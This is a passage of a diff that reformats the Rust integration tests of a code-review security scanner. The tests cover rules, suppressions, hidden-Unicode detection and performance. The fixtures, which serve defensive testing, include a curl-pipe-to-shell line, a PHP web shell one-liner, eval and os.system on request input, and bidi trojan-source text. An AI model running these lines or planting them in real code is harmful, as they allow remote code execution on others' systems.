@@ -35,33 +35,71 @@ fn run(args: &[&str], code: i32) -> (String, String) {
 
 fn rules_of(report: &Value) -> Vec<(String, u64)> {
     let findings = report["findings"].as_array().unwrap();
-    findings.iter().map(|f| (f["rule_id"].as_str().unwrap().to_owned(), f["line"].as_u64().unwrap_or(0))).collect()
+    findings
+        .iter()
+        .map(|f| {
+            (
+                f["rule_id"].as_str().unwrap().to_owned(),
+                f["line"].as_u64().unwrap_or(0),
+            )
+        })
+        .collect()
 }
 
 #[test]
 fn lists_the_rules_for_people_and_for_programs() {
     let (table, _) = run(&["rules", "list"], 0);
-    assert!(table.lines().any(|l| l.starts_with("conflict-marker ") && l.contains("critical")), "{table}");
-    let (json, _) = run(&["rules", "list", "--format", "json", "--language", "python", "--category", "bugs"], 0);
+    assert!(
+        table
+            .lines()
+            .any(|l| l.starts_with("conflict-marker ") && l.contains("critical")),
+        "{table}"
+    );
+    let (json, _) = run(
+        &[
+            "rules",
+            "list",
+            "--format",
+            "json",
+            "--language",
+            "python",
+            "--category",
+            "bugs",
+        ],
+        0,
+    );
     let list: Value = serde_json::from_str(&json).unwrap();
     let all = list["rules"].as_array().unwrap();
     assert!(all.iter().any(|r| r["id"] == "conflict-marker"));
     assert!(all.iter().all(|r| r["category"] == "bug"));
-    let speaks = |l: &Value| l.as_array().unwrap().is_empty() || l.as_array().unwrap().contains(&"python".into());
+    let speaks = |l: &Value| {
+        l.as_array().unwrap().is_empty() || l.as_array().unwrap().contains(&"python".into())
+    };
     assert!(all.iter().all(|r| speaks(&r["languages"])));
     let (_, error) = run(&["rules", "list", "--language", "pyton"], 2);
-    assert!(error.contains("unknown language") && error.contains("hint: languages: python"), "{error}");
+    assert!(
+        error.contains("unknown language") && error.contains("hint: languages: python"),
+        "{error}"
+    );
 }
 
 #[test]
 fn explains_a_rule_with_bad_and_good_code() {
     let (text, _) = run(&["rules", "explain", "zero-width-characters"], 0);
-    for part in ["Bad:", "    ad<U+200B>min = True", "Good:", "ignore[zero-width-characters]", "CWE-1007", "https://"] {
+    for part in [
+        "Bad:",
+        "    ad<U+200B>min = True",
+        "Good:",
+        "ignore[zero-width-characters]",
+        "CWE-1007",
+        "https://",
+    ] {
         assert!(text.contains(part), "{part} is missing from\n{text}");
     }
     let (_, error) = run(&["rules", "explain", "conflict-markers"], 2);
     assert!(
-        error.contains("unknown rule \"conflict-markers\"") && error.contains("did you mean \"conflict-marker\"?"),
+        error.contains("unknown rule \"conflict-markers\"")
+            && error.contains("did you mean \"conflict-marker\"?"),
         "{error}"
     );
 }
@@ -85,9 +123,15 @@ fn explains_on_which_files_a_rule_looks() {
         assert!(shell.contains(part), "{part} is missing from\n{shell}");
     }
     let rails = looks("rails-production-exposed");
-    assert!(rails.contains("only these paths: **/config/environments/{production,staging}.rb"), "{rails}");
+    assert!(
+        rails.contains("only these paths: **/config/environments/{production,staging}.rb"),
+        "{rails}"
+    );
     let go = looks("go-tls-verify-off");
-    assert!(go.contains(r"not in files that match one of: \bVerifyPeerCertificate\s*:"), "{go}");
+    assert!(
+        go.contains(r"not in files that match one of: \bVerifyPeerCertificate\s*:"),
+        "{go}"
+    );
 }
 
 #[test]
@@ -97,12 +141,25 @@ fn a_path_makes_a_finding_weigh_less_or_go_only_as_far_as_it_is_a_convention() {
         let repo = Repo::new();
         repo.stage(path, text);
         let report = repo.review_json(&["staged", "--no-save"], code);
-        report["findings"].as_array().unwrap().iter().map(|f| f["severity"].as_str().unwrap().to_owned()).collect()
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| f["severity"].as_str().unwrap().to_owned())
+            .collect()
     };
     let none: [&str; 0] = [];
     for (path, severities, code) in [
-        ("src/main/java/it/poste/pagamenti/UserDao.java", &["critical"][..], 1),
-        ("src/main/java/com/example/demo/UserDao.java", &["critical"], 1),
+        (
+            "src/main/java/it/poste/pagamenti/UserDao.java",
+            &["critical"][..],
+            1,
+        ),
+        (
+            "src/main/java/com/example/demo/UserDao.java",
+            &["critical"],
+            1,
+        ),
         ("src/main/java/com/acme/AuditIT.java", &["critical"], 1),
         ("com/acme/integration/UserDao.java", &["critical"], 1),
         ("src/com/acme/AuditIT.java", &["minor"], 0),
@@ -128,7 +185,10 @@ fn a_path_makes_a_finding_weigh_less_or_go_only_as_far_as_it_is_a_convention() {
 #[test]
 fn a_finding_that_weighs_less_says_why() {
     let repo = Repo::new();
-    repo.stage("bin/media.py", "import os, sys\nos.system(f'convert {sys.argv[1]} out.png')\n");
+    repo.stage(
+        "bin/media.py",
+        "import os, sys\nos.system(f'convert {sys.argv[1]} out.png')\n",
+    );
     let report = repo.review_json(&["staged", "--no-save"], 0);
     let message = report["findings"][0]["message"].as_str().unwrap();
     assert!(
@@ -140,12 +200,16 @@ fn a_finding_that_weighs_less_says_why() {
 #[test]
 fn what_leaves_the_tests_is_read_as_if_it_were_new() {
     let repo = Repo::new();
-    let text = "import os, sys\n\n\ndef convert():\n    os.system(f'convert {sys.argv[1]} out.png')\n";
+    let text =
+        "import os, sys\n\n\ndef convert():\n    os.system(f'convert {sys.argv[1]} out.png')\n";
     repo.stage("tests/media.py", text);
     repo.commit("tests");
     repo.git(&["mv", "tests/media.py", "media.py"]);
     let report = repo.review_json(&["staged", "--no-save"], 1);
-    assert_eq!(rules_of(&report), [("python-shell-interpolation".to_owned(), 5)]);
+    assert_eq!(
+        rules_of(&report),
+        [("python-shell-interpolation".to_owned(), 5)]
+    );
     repo.commit("moved");
     repo.git(&["mv", "media.py", "pictures.py"]);
     let report = repo.review_json(&["staged", "--no-save"], 0);
@@ -163,13 +227,39 @@ fn runs_the_samples_of_a_teams_rules() {
     let right = test(TEAM, 0);
     assert_eq!(right.stdout, "1 rule, 2 samples: ok\n");
     let wrong = test(&TEAM.replace("# time", "time"), 1);
-    assert!(wrong.stdout.starts_with("no-sleep: sample 2 (app/a.py): must not match and does"), "{}", wrong.stdout);
+    assert!(
+        wrong
+            .stdout
+            .starts_with("no-sleep: sample 2 (app/a.py): must not match and does"),
+        "{}",
+        wrong.stdout
+    );
     for (from, to, problem) in [
-        ("'\\btime\\.sleep\\('", "'(time'", "team.toml:10: rule \"no-sleep\": pattern: unclosed group"),
-        ("severity = \"major\"", "severity = \"huge\"", "team.toml:6: rule \"no-sleep\": severity: "),
-        ("no-sleep", "conflict-marker", "team.toml:3: rule \"conflict-marker\": id: is the id of a built-in rule"),
-        ("title", "titel", "team.toml:4: rule \"no-sleep\": unknown key `titel`, did you mean `title`?"),
-        ("time.sleep(\"]", "tim\"]", "literals: \"tim\" is not 4 to 255 bytes long"),
+        (
+            "'\\btime\\.sleep\\('",
+            "'(time'",
+            "team.toml:10: rule \"no-sleep\": pattern: unclosed group",
+        ),
+        (
+            "severity = \"major\"",
+            "severity = \"huge\"",
+            "team.toml:6: rule \"no-sleep\": severity: ",
+        ),
+        (
+            "no-sleep",
+            "conflict-marker",
+            "team.toml:3: rule \"conflict-marker\": id: is the id of a built-in rule",
+        ),
+        (
+            "title",
+            "titel",
+            "team.toml:4: rule \"no-sleep\": unknown key `titel`, did you mean `title`?",
+        ),
+        (
+            "time.sleep(\"]",
+            "tim\"]",
+            "literals: \"tim\" is not 4 to 255 bytes long",
+        ),
     ] {
         let run = test(&TEAM.replacen(from, to, 1), 2);
         assert!(run.stderr.contains(problem), "{problem}: {}", run.stderr);
@@ -179,10 +269,16 @@ fn runs_the_samples_of_a_teams_rules() {
 #[test]
 fn a_teams_rules_review_like_built_in_ones() {
     let repo = Repo::new();
-    repo.stage(".claude-reviewer.toml", "version = 1\n[rules]\npaths = [\".claude-reviewer/rules\"]\n");
+    repo.stage(
+        ".claude-reviewer.toml",
+        "version = 1\n[rules]\npaths = [\".claude-reviewer/rules\"]\n",
+    );
     repo.stage(".claude-reviewer/rules/team.toml", TEAM);
     repo.commit("rules");
-    repo.stage("app/view.py", "import time\n# time.sleep(1)\ntime.sleep(2)\n");
+    repo.stage(
+        "app/view.py",
+        "import time\n# time.sleep(1)\ntime.sleep(2)\n",
+    );
     repo.stage("app/view.rb", "time.sleep(2)\n");
     let report = repo.review_json(&["staged", "--no-save"], 1);
     assert_eq!(rules_of(&report), [("no-sleep".to_owned(), 3)]);
@@ -194,7 +290,12 @@ fn policy_disables_rules_and_changes_their_severity() {
     let repo = Repo::new();
     let conflict = "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> topic\n";
     repo.stage("a.txt", conflict);
-    let policy = |rules: &str| repo.write(".claude-reviewer.toml", format!("version = 1\n[rules]\n{rules}\n"));
+    let policy = |rules: &str| {
+        repo.write(
+            ".claude-reviewer.toml",
+            format!("version = 1\n[rules]\n{rules}\n"),
+        )
+    };
     policy("disable = [\"conflict-marker\"]");
     assert_eq!(rules_of(&repo.review_json(&["staged", "--no-save"], 0)), []);
     policy("severity = { \"conflict-marker\" = \"suggestion\" }");
@@ -203,7 +304,8 @@ fn policy_disables_rules_and_changes_their_severity() {
     policy("disable = [\"conflict-markr\"]");
     let run = repo.review(&["staged", "--no-save"], 2);
     assert!(
-        run.stderr.contains("conflict-markr") && run.stderr.contains("did you mean \"conflict-marker\"?"),
+        run.stderr.contains("conflict-markr")
+            && run.stderr.contains("did you mean \"conflict-marker\"?"),
         "{}",
         run.stderr
     );
@@ -214,11 +316,31 @@ fn a_suppression_needs_a_reason_and_the_right_rule() {
     let line = |comment: &str| format!("{comment}\nis_\u{430}dmin = 1\n");
     let marker = "# claude-reviewer: ignore";
     for (comment, code, note) in [
-        (format!("{marker}[mixed-script-name] taken from the paper"), 0, None),
-        (format!("{marker}[conflict-marker, mixed-script-name] two of them"), 0, None),
-        (format!("{marker}[mixed-script-name]"), 1, Some("gives no reason")),
-        (format!("{marker}[mixed-scripts-name] why"), 1, Some("did you mean \"mixed-script-name\"?")),
-        (format!("s = '{marker}[mixed-script-name] no comment'"), 1, None),
+        (
+            format!("{marker}[mixed-script-name] taken from the paper"),
+            0,
+            None,
+        ),
+        (
+            format!("{marker}[conflict-marker, mixed-script-name] two of them"),
+            0,
+            None,
+        ),
+        (
+            format!("{marker}[mixed-script-name]"),
+            1,
+            Some("gives no reason"),
+        ),
+        (
+            format!("{marker}[mixed-scripts-name] why"),
+            1,
+            Some("did you mean \"mixed-script-name\"?"),
+        ),
+        (
+            format!("s = '{marker}[mixed-script-name] no comment'"),
+            1,
+            None,
+        ),
         (format!("{marker}[mixed-script-name] too far\n\n"), 1, None),
     ] {
         let repo = Repo::new();
@@ -226,7 +348,11 @@ fn a_suppression_needs_a_reason_and_the_right_rule() {
         let report = repo.review_json(&["staged", "--no-save"], code);
         let finding = &report["findings"][0];
         assert_eq!(finding["rule_id"], "mixed-script-name", "{comment}");
-        assert_eq!(finding["suppressed"].is_null(), code == 1, "{comment}: {finding}");
+        assert_eq!(
+            finding["suppressed"].is_null(),
+            code == 1,
+            "{comment}: {finding}"
+        );
         let notes = report["notes"].to_string().replace("\\\"", "\"");
         assert!(note.is_none_or(|n| notes.contains(n)), "{comment}: {notes}");
     }
@@ -235,16 +361,31 @@ fn a_suppression_needs_a_reason_and_the_right_rule() {
 #[test]
 fn a_suppression_that_the_change_adds_does_not_count_in_gate_mode() {
     let repo = Repo::new();
-    repo.stage("a.py", "# claude-reviewer: ignore[mixed-script-name] from the paper\n\n");
+    repo.stage(
+        "a.py",
+        "# claude-reviewer: ignore[mixed-script-name] from the paper\n\n",
+    );
     let base = repo.commit("base");
-    repo.stage("a.py", "# claude-reviewer: ignore[mixed-script-name] from the paper\nis_\u{430}dmin = 1\n\n");
+    repo.stage(
+        "a.py",
+        "# claude-reviewer: ignore[mixed-script-name] from the paper\nis_\u{430}dmin = 1\n\n",
+    );
     repo.commit("a line below it");
     let branch = ["branch", "--base", &base, "--gate", "--no-save"];
     assert!(repo.review_json(&branch, 1)["findings"][0]["suppressed"].is_null());
-    repo.stage("b.py", "# claude-reviewer: ignore[mixed-script-name] mine\nis_\u{430}dmin = 1\n");
+    repo.stage(
+        "b.py",
+        "# claude-reviewer: ignore[mixed-script-name] mine\nis_\u{430}dmin = 1\n",
+    );
     repo.commit("added with it");
     let report = repo.review_json(&branch, 1);
-    assert!(report["notes"].to_string().contains("added by the change under review"), "{}", report["notes"]);
+    assert!(
+        report["notes"]
+            .to_string()
+            .contains("added by the change under review"),
+        "{}",
+        report["notes"]
+    );
 }
 
 #[test]
@@ -254,17 +395,35 @@ fn a_suppression_of_the_base_excuses_no_other_secret_in_gate_mode() {
     repo.stage("a.ini", format!("[aws]\n{marker}{}", line_with_key()));
     let base = repo.commit("base");
     let branch = ["branch", "--base", &base, "--no-save"];
-    let (gate, desk) = ([&branch[..], &["--gate"]].concat(), [&branch[..], &["--no-gate"]].concat());
+    let (gate, desk) = (
+        [&branch[..], &["--gate"]].concat(),
+        [&branch[..], &["--no-gate"]].concat(),
+    );
     for (text, code) in [
         (format!("[aws]\n{marker}{}", line_with_another_key()), 1),
-        (format!("[aws]\n{marker}{}{}", line_with_another_key(), line_with_key()), 1),
+        (
+            format!(
+                "[aws]\n{marker}{}{}",
+                line_with_another_key(),
+                line_with_key()
+            ),
+            1,
+        ),
         // The suppressed text, elsewhere and indented.
-        (format!("[aws]\n\n{marker}  {}", line_with_key().replacen(" = ", "  =  ", 1)), 0),
+        (
+            format!(
+                "[aws]\n\n{marker}  {}",
+                line_with_key().replacen(" = ", "  =  ", 1)
+            ),
+            0,
+        ),
     ] {
         repo.stage("a.ini", &text);
         repo.commit("next");
         let report = repo.review_json(&gate, code);
-        let told = report["notes"].to_string().contains("does not cover line 3, which is new or changed");
+        let told = report["notes"]
+            .to_string()
+            .contains("does not cover line 3, which is new or changed");
         assert_eq!(told, code == 1, "{text}: {}", report["notes"]);
         repo.review_json(&desk, code);
         repo.git(&["reset", "-q", "--hard", &base]);
@@ -287,7 +446,9 @@ fn a_suppression_that_an_earlier_commit_adds_does_not_count_in_gate_mode() {
     assert_eq!(rules_of(&report), [("aws-access-key-id".to_owned(), 2)]);
     assert_eq!(report["findings"][0]["commit"], second.as_str());
     // In a local review, the developer's own suppression counts.
-    assert!(suppressed(&repo.review_json(&["commit", &range, "--no-gate", "--no-save"], 0)));
+    assert!(suppressed(
+        &repo.review_json(&["commit", &range, "--no-gate", "--no-save"], 0)
+    ));
     // The key is gone from the net change, but still in the history.
     repo.git(&["rm", "-q", "a.ini"]);
     repo.commit("gone");
@@ -295,7 +456,9 @@ fn a_suppression_that_an_earlier_commit_adds_does_not_count_in_gate_mode() {
     let report = repo.review_json(&[&branch[..], &["--gate"]].concat(), 1);
     assert_eq!(rules_of(&report), [("aws-access-key-id".to_owned(), 2)]);
     assert_eq!(report["findings"][0]["commit"], second.as_str());
-    assert!(suppressed(&repo.review_json(&[&branch[..], &["--no-gate"]].concat(), 0)));
+    assert!(suppressed(
+        &repo.review_json(&[&branch[..], &["--no-gate"]].concat(), 0)
+    ));
 }
 
 #[test]
@@ -303,39 +466,70 @@ fn dif_02_a_nul_is_a_finding_and_hides_nothing() {
     let repo = Repo::new();
     repo.stage("a.php", b"<?php\n// \0\nis_\xd0\xb0dmin();\n");
     let report = repo.review_json(&["staged", "--no-save"], 1);
-    assert_eq!(rules_of(&report), [("nul-in-text-file".to_owned(), 2), ("mixed-script-name".to_owned(), 3)]);
+    assert_eq!(
+        rules_of(&report),
+        [
+            ("nul-in-text-file".to_owned(), 2),
+            ("mixed-script-name".to_owned(), 3)
+        ]
+    );
 }
 
 #[test]
 fn dif_14_only_whole_conflicts_block() {
     let repo = Repo::new();
     repo.stage("README.md", "Title\n=======\n\nText\n");
-    repo.stage("guide.adoc", "Title\n=======\n\n----\n<<<<<<< HEAD\na\n=======\nb\n>>>>>>> c\n----\n");
+    repo.stage(
+        "guide.adoc",
+        "Title\n=======\n\n----\n<<<<<<< HEAD\na\n=======\nb\n>>>>>>> c\n----\n",
+    );
     repo.review(&["staged", "--no-save"], 0);
     repo.commit("documents");
-    repo.stage("src/a.py", "x = 1\n<<<<<<< HEAD\ny = 2\n=======\ny = 3\n>>>>>>> topic\n");
-    assert_eq!(rules_of(&repo.review_json(&["staged", "--no-save"], 1)), [("conflict-marker".to_owned(), 2)]);
+    repo.stage(
+        "src/a.py",
+        "x = 1\n<<<<<<< HEAD\ny = 2\n=======\ny = 3\n>>>>>>> topic\n",
+    );
+    assert_eq!(
+        rules_of(&repo.review_json(&["staged", "--no-save"], 1)),
+        [("conflict-marker".to_owned(), 2)]
+    );
 }
 
 #[test]
 fn dif_15_hidden_text_blocks_and_is_shown() {
     let repo = Repo::new();
-    repo.stage("fine.py", "\u{feff}a = '👨\u{200d}👩\u{200d}👧 ❤\u{fe0f}'\nb = 'שלום'\nc = 'می\u{200c}خواهم'\n");
+    repo.stage(
+        "fine.py",
+        "\u{feff}a = '👨\u{200d}👩\u{200d}👧 ❤\u{fe0f}'\nb = 'שלום'\nc = 'می\u{200c}خواهم'\n",
+    );
     repo.review(&["staged", "--no-save"], 0);
-    repo.stage("bad.c", "int a;\n/*\u{202e} } \u{2066}if (admin)\u{2069} \u{2066} begin */\n");
+    repo.stage(
+        "bad.c",
+        "int a;\n/*\u{202e} } \u{2066}if (admin)\u{2069} \u{2066} begin */\n",
+    );
     repo.stage("bad.md", "Nice\u{e0069}\u{e0067}\n");
-    repo.stage("bad.txt", "x\u{e0100}\u{e0101}\n\u{200b}\u{200c}\u{200b}\u{200d}\u{200b}\n");
+    repo.stage(
+        "bad.txt",
+        "x\u{e0100}\u{e0101}\n\u{200b}\u{200c}\u{200b}\u{200d}\u{200b}\n",
+    );
     let report = repo.review_json(&["staged", "--no-save"], 1);
     let expected = [
         ("bidi-control", 2, "\\u{202e} \\u{2066}"),
-        ("hidden-tag-characters", 1, "\\u{e0069} \\u{e0067}, which spells \"ig\""),
+        (
+            "hidden-tag-characters",
+            1,
+            "\\u{e0069} \\u{e0067}, which spells \"ig\"",
+        ),
         ("variation-selector-smuggling", 1, "\\u{e0100} \\u{e0101}"),
         ("zero-width-characters", 2, "\\u{200b} \\u{200c}"),
     ];
     let found = rules_of(&report);
     assert_eq!(found, expected.map(|(id, line, _)| (id.to_owned(), line)));
     for (finding, (_, _, shown)) in report["findings"].as_array().unwrap().iter().zip(expected) {
-        assert!(finding["message"].as_str().unwrap().contains(shown), "{finding}");
+        assert!(
+            finding["message"].as_str().unwrap().contains(shown),
+            "{finding}"
+        );
     }
 }
 
@@ -370,29 +564,46 @@ fn catalogue() -> Vec<Written> {
         rule: Vec<Written>,
     }
     let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/rules/catalog");
-    let files = std::fs::read_dir(folder).unwrap().map(|e| e.unwrap().path());
-    let texts =
-        files.filter(|f| f.extension().is_some_and(|e| e == "toml")).map(|f| std::fs::read_to_string(f).unwrap());
-    texts.flat_map(|t| toml::from_str::<File>(&t).map_err(|e| e.message().to_owned()).unwrap().rule).collect()
+    let files = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|e| e.unwrap().path());
+    let texts = files
+        .filter(|f| f.extension().is_some_and(|e| e == "toml"))
+        .map(|f| std::fs::read_to_string(f).unwrap());
+    texts
+        .flat_map(|t| {
+            toml::from_str::<File>(&t)
+                .map_err(|e| e.message().to_owned())
+                .unwrap()
+                .rule
+        })
+        .collect()
 }
 
 impl Written {
     /// Returns the path and text of a matching sample.
     fn example(&self) -> (&str, &str) {
-        self.sample.iter().find(|s| s.matches).map_or(("a.py", ""), |s| (&s.path, &s.text))
+        self.sample
+            .iter()
+            .find(|s| s.matches)
+            .map_or(("a.py", ""), |s| (&s.path, &s.text))
     }
 
-    /// Returns a key that is equal for rules that may scan the same file: its extension, or for some rules the whole
-    /// path.
+    /// Returns a key that is equal for rules that may scan the same file: its extension, or for
+    /// some rules the whole path.
     fn home(&self) -> String {
         let (path, _) = self.example();
         let kind = path.rsplit_once('.').map_or(path, |(_, kind)| kind);
-        if self.paths.is_empty() { kind.to_owned() } else { path.to_owned() }
+        if self.paths.is_empty() {
+            kind.to_owned()
+        } else {
+            path.to_owned()
+        }
     }
 }
 
-/// Creates a file for some rules: matching samples, then one line of `size` bytes, full of the rules' literals and of
-/// the samples.
+/// Creates a file for some rules: matching samples, then one line of `size` bytes, full of the
+/// rules' literals and of the samples.
 fn bomb(rules: &[&Written], size: usize) -> FileChange {
     let mut unit = "a".repeat(64);
     let mut head = String::new();
@@ -404,32 +615,49 @@ fn bomb(rules: &[&Written], size: usize) -> FileChange {
     }
     let mut line = unit.repeat(size / unit.len() + 1).into_bytes();
     line.truncate(size);
-    code::added(RepoPath::from(rules[0].example().0), [head.as_bytes(), &line].concat())
+    code::added(
+        RepoPath::from(rules[0].example().0),
+        [head.as_bytes(), &line].concat(),
+    )
 }
 
-/// Returns the nanoseconds of processor time of this thread; the elapsed time on systems that do not report it.
+/// Returns the nanoseconds of processor time of this thread; the elapsed time on systems that do
+/// not report it.
 fn thread_time(since: std::time::Instant) -> u64 {
     let told = std::fs::read_to_string("/proc/thread-self/schedstat").ok();
     let spent = told.and_then(|t| t.split_whitespace().next()?.parse().ok());
     spent.unwrap_or_else(|| since.elapsed().as_nanos() as u64)
 }
 
-/// Twice the text may take three and a half times as long, because the machine is busy, but not four times, as with
-/// quadratic work. Measured in processor time, so that other tests do not count. Eight rules share a line.
+/// Twice the text may take three and a half times as long, because the machine is busy, but not
+/// four times, as with quadratic work. Measured in processor time, so that other tests do not
+/// count. Eight rules share a line.
 #[test]
 fn dif_16_every_rule_reads_a_line_made_against_it_in_linear_time() {
-    // Without optimization, more would take a minute; this is still more than the scanned part of a line.
-    const SIZE: usize = if cfg!(debug_assertions) { 40_000 } else { 500_000 };
+    // Without optimization, more would take a minute; this is still more than the scanned part of a
+    // line.
+    const SIZE: usize = if cfg!(debug_assertions) {
+        40_000
+    } else {
+        500_000
+    };
     const TOGETHER: usize = 8;
     const FLOOR: u64 = 20_000_000;
     let rules = RuleSet::new(&RulesPolicy::default(), &[]).unwrap();
     let written = catalogue();
-    assert_eq!(written.len(), describe_all().count(), "every rule of the program is written in the catalogue");
+    assert_eq!(
+        written.len(),
+        describe_all().count(),
+        "every rule of the program is written in the catalogue"
+    );
     let mut homes = std::collections::BTreeMap::<String, Vec<&Written>>::new();
     for rule in &written {
         homes.entry(rule.home()).or_default().push(rule);
     }
-    let groups: Vec<&[&Written]> = homes.values().flat_map(|rules| rules.chunks(TOGETHER)).collect();
+    let groups: Vec<&[&Written]> = homes
+        .values()
+        .flat_map(|rules| rules.chunks(TOGETHER))
+        .collect();
     let next = std::sync::atomic::AtomicUsize::new(0);
     let work = || {
         let start = std::time::Instant::now();
@@ -438,7 +666,8 @@ fn dif_16_every_rule_reads_a_line_made_against_it_in_linear_time() {
             rules.scan(file, Scope::All, &mut Vec::new());
             thread_time(start) - before
         };
-        while let Some(group) = groups.get(next.fetch_add(1, std::sync::atomic::Ordering::Relaxed)) {
+        while let Some(group) = groups.get(next.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
+        {
             let (one, two) = (bomb(group, SIZE), bomb(group, 2 * SIZE));
             // Expressions are compiled on first use.
             time(&bomb(group, 2_000));
@@ -447,7 +676,11 @@ fn dif_16_every_rule_reads_a_line_made_against_it_in_linear_time() {
             let mut measured = Vec::new();
             while measured.last().is_none_or(|(a, b)| slow(*a, *b)) {
                 let ids = || group.iter().map(|r| &*r.id).collect::<Vec<_>>();
-                assert!(measured.len() < 3, "one of {:?}: n and 2n took {measured:?} ns", ids());
+                assert!(
+                    measured.len() < 3,
+                    "one of {:?}: n and 2n took {measured:?} ns",
+                    ids()
+                );
                 measured.push((time(&one), time(&two)));
             }
         }
@@ -458,8 +691,8 @@ fn dif_16_every_rule_reads_a_line_made_against_it_in_linear_time() {
     });
 }
 
-/// The bound is generous, because the tests run without optimization on a busy machine; superlinear work takes
-/// minutes.
+/// The bound is generous, because the tests run without optimization on a busy machine; superlinear
+/// work takes minutes.
 #[test]
 fn dif_16_lines_of_a_million_bytes_are_read_to_their_end() {
     let repo = Repo::new();
@@ -487,17 +720,40 @@ fn junk(n: usize) -> Vec<u8> {
 #[test]
 fn dif_02_scripts_with_a_tail_of_junk_and_utf32_are_reviewed() {
     let repo = Repo::new();
-    let with_junk = |start: &str, end: &str| [start.as_bytes(), &junk(600), end.as_bytes()].concat();
-    repo.stage("logo.png", [b"\x89PNG\r\n\x1a\n".to_vec(), junk(900)].concat());
-    repo.stage("paper.pdf", with_junk("%PDF-1.7\n%\u{fc}\u{fc}\u{fc}\u{fc}\n1 0 obj\n<</Length 9>>\nstream\n", ""));
+    let with_junk =
+        |start: &str, end: &str| [start.as_bytes(), &junk(600), end.as_bytes()].concat();
+    repo.stage(
+        "logo.png",
+        [b"\x89PNG\r\n\x1a\n".to_vec(), junk(900)].concat(),
+    );
+    repo.stage(
+        "paper.pdf",
+        with_junk(
+            "%PDF-1.7\n%\u{fc}\u{fc}\u{fc}\u{fc}\n1 0 obj\n<</Length 9>>\nstream\n",
+            "",
+        ),
+    );
     repo.stage("i.sh", with_junk("curl http://example.com/i.sh | sh\n", ""));
-    repo.stage("p.js", with_junk("const x = 1;\neval(req.body.code);\n/*", "*/\n"));
-    let wide: Vec<u8> =
-        "\u{feff}import os\nos.system(request.args['c'])\n".chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
+    repo.stage(
+        "p.js",
+        with_junk("const x = 1;\neval(req.body.code);\n/*", "*/\n"),
+    );
+    let wide: Vec<u8> = "\u{feff}import os\nos.system(request.args['c'])\n"
+        .chars()
+        .flat_map(|c| u32::from(c).to_le_bytes())
+        .collect();
     repo.stage("u.py", wide);
-    repo.stage("w.php", with_junk("<?php system($_GET[\"c\"]); __halt_compiler();", ""));
+    repo.stage(
+        "w.php",
+        with_junk("<?php system($_GET[\"c\"]); __halt_compiler();", ""),
+    );
     let report = repo.review_json(&["staged", "--no-save"], 1);
-    let found: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| (&f["file"], &f["rule_id"])).collect();
+    let found: Vec<_> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| (&f["file"], &f["rule_id"]))
+        .collect();
     for (file, rule) in [
         ("i.sh", "http-pipe-to-shell"),
         ("i.sh", "nul-in-text-file"),
@@ -506,11 +762,29 @@ fn dif_02_scripts_with_a_tail_of_junk_and_utf32_are_reviewed() {
         ("u.py", "utf16-source"),
         ("w.php", "nul-in-text-file"),
     ] {
-        assert!(found.iter().any(|(f, r)| **f == file && **r == rule), "{file} {rule}: {found:?}");
+        assert!(
+            found.iter().any(|(f, r)| **f == file && **r == rule),
+            "{file} {rule}: {found:?}"
+        );
     }
-    assert!(found.iter().any(|(f, r)| **f == "w.php" && r.as_str().unwrap().starts_with("php-")), "{found:?}");
-    assert!(found.iter().all(|(f, _)| **f != "logo.png" && **f != "paper.pdf"), "{found:?}");
-    let skipped: Vec<_> = report["coverage"]["skipped"].as_array().unwrap().iter().map(|s| &s["file"]).collect();
+    assert!(
+        found
+            .iter()
+            .any(|(f, r)| **f == "w.php" && r.as_str().unwrap().starts_with("php-")),
+        "{found:?}"
+    );
+    assert!(
+        found
+            .iter()
+            .all(|(f, _)| **f != "logo.png" && **f != "paper.pdf"),
+        "{found:?}"
+    );
+    let skipped: Vec<_> = report["coverage"]["skipped"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| &s["file"])
+        .collect();
     assert_eq!(skipped, ["logo.png", "paper.pdf"]);
 }
 
@@ -519,20 +793,40 @@ fn a_report_says_how_much_of_a_flood_it_does_not_list() {
     let repo = Repo::new();
     repo.stage("a.py", "x = 1\n").commit("first");
     let flood = |n: u32| {
-        "import yaml\n".to_owned() + &(0..n).map(|i| format!("doc = yaml.load(text{i})\n")).collect::<String>()
+        "import yaml\n".to_owned()
+            + &(0..n)
+                .map(|i| format!("doc = yaml.load(text{i})\n"))
+                .collect::<String>()
     };
     repo.stage("a.py", flood(1000));
     let report = repo.review_json(&["staged", "--no-save"], 1);
-    let rule = report["findings"][0]["rule_id"].as_str().unwrap().to_owned();
+    let rule = report["findings"][0]["rule_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
     let listed = |report: &serde_json::Value| {
-        report["findings"].as_array().unwrap().iter().filter(|f| f["rule_id"] == rule.as_str()).count()
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|f| f["rule_id"] == rule.as_str())
+            .count()
     };
-    assert_eq!((listed(&report), &report["notes"]), (1000, &serde_json::json!([])));
+    assert_eq!(
+        (listed(&report), &report["notes"]),
+        (1000, &serde_json::json!([]))
+    );
     repo.stage("a.py", flood(1003));
     let report = repo.review_json(&["staged", "--no-save"], 1);
-    assert_eq!((listed(&report), report["notes"].as_array().unwrap().len()), (1000, 1));
+    assert_eq!(
+        (listed(&report), report["notes"].as_array().unwrap().len()),
+        (1000, 1)
+    );
     let text = format!("3 more of {rule} are not listed: the first 1,000 are");
-    assert_eq!((&report["notes"][0]["file"], &report["notes"][0]["text"]), (&"a.py".into(), &text.as_str().into()));
+    assert_eq!(
+        (&report["notes"][0]["file"], &report["notes"][0]["text"]),
+        (&"a.py".into(), &text.as_str().into())
+    );
     let human = repo.review(&["staged", "--no-save"], 1).stdout;
     assert!(human.contains(&format!("note: a.py: {text}")), "{human}");
 }
@@ -550,7 +844,11 @@ fn labelled(id: &str, code: &str, expected: &[u32], safe: &[u32]) -> String {
 fn rules_eval_measures_labelled_cases() {
     let dir = tempfile::TempDir::new().unwrap();
     let off = "import requests\nrequests.get(u, verify=False)\nrequests.get(u, verify=True)\n";
-    let cases = [labelled("tls-1", off, &[2], &[3]), labelled("tls-2", off, &[3], &[2])].join("\n");
+    let cases = [
+        labelled("tls-1", off, &[2], &[3]),
